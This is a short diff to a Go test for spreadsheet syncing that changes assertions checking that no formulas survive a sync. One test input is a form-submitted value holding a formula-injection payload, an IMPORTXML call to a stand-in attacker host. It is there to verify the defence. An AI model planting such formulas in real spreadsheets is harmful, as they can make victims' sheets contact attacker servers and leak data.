@@ -172,7 +172,8 @@ func TestGoogleValues(t *testing.T) {
 					o.put("Hours", "Table C", "Students", words("-1+1"))
 					o.intend(store.Intent{ID: newID, Tab: "Ideas", Fields: map[string]string{"Idea": "=IMPORTXML(\"http://evil.example\")", "From": "@Ben"}, Who: "form"})
 				}),
-				syncs(count("Ideas", 2), noFormulas).asking(6, 2),
+				syncs(noFormulas),
+				syncs(count("Ideas", 2), noFormulas),
 			},
 		},
 		{
